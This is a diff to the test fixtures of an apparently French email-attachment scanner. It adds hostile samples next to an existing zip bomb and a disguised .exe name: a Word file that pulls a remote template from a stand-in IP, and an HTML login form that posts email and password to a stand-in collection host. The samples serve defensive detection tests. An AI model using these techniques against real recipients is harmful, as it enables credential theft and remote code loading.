@@ -112,6 +112,15 @@ MALICIOUS = {
     "zip bomb": ("bombe.zip", zip_of({"zeros.bin": b"\x00" * 60_000_000}),
                  {"ATTACH_ARCHIVE_BOMB"}),
     "rtlo name": ("facture\u202efdp.exe", PE, {"ATTACH_RTLO_NAME", "ATTACH_DANGEROUS_TYPE"}),
+    "remote template": ("courrier.docx", docx({"word/_rels/settings.xml.rels": (
+        b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://203.0.113.9/modele.dotm" TargetMode="External"/></Relationships>')}),
+        {"ATTACH_REMOTE_TEMPLATE"}),
+    "credential form": ("connexion.html", b'<html><body><form method="post" '
+                        b'action="https://collecte.example/login.php"><input name="email">'
+                        b'<input type="password" name="mdp"></form></body></html>',
+                        {"ATTACH_HTML_CREDENTIAL_FORM"}),
 }
 CLEAN = {
     "pdf": ("compte-rendu.pdf", pdf()),
